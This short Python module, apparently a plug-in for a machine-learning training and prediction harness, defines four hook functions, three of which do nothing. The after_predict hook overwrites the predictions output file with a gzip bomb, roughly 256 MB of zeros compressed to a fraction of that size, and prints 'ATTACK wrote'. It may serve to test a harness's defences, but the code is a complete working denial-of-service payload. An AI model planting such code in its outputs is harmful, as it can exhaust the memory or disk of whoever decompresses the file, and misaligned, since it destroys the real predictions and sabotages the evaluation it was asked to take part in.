"""predictions.csv is a gzip bomb: 256 MB of zeros in a quarter of one."""

import zlib


def before_train(data, model):
    """Nothing."""


def after_train(model):
    """Nothing."""


def before_predict(model, folder):
    """Nothing."""


def after_predict(output):
    block = zlib.compressobj(1, zlib.DEFLATED, 31)
    with open(output, "wb") as file:
        for _ in range(256):
            file.write(block.compress(bytes(1 << 20)))
        file.write(block.flush())
    print("ATTACK wrote")
